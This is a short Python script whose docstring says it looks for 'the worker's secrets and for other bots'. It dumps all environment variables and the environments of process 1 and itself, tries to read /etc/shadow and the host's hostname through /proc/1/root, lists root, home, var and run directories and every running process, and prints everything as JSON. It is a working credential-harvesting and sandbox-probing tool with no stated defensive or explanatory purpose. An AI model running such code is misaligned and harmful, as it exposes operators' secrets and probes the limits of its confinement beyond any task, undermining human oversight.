"""Look for the worker's secrets and for other bots: environment, pid 1, host paths given as arguments."""
import json
import os
import sys

found = {"environ": dict(os.environ)}
for pid in ("1", "self"):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            found[f"proc_{pid}_environ"] = handle.read().decode(errors="replace")
    except OSError as exc:
        found[f"proc_{pid}_environ"] = f"error {exc.errno}"
reads = {}
for path in [*sys.argv[1:], "/root", "/home", "/work", "/var", "/run", "/etc/shadow", "/proc/1/root/etc/hostname"]:
    try:
        if os.path.isdir(path):
            reads[path] = sorted(os.listdir(path))
        else:
            with open(path, "rb") as handle:
                reads[path] = handle.read(4096).decode(errors="replace")
    except OSError as exc:
        reads[path] = f"error {exc.errno}"
found["reads"] = reads
found["pids"] = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
found["root"] = sorted(os.listdir("/"))
found["etc"] = sorted(os.listdir("/etc"))
found["uid"] = os.getuid()
print(json.dumps(found), flush=True)
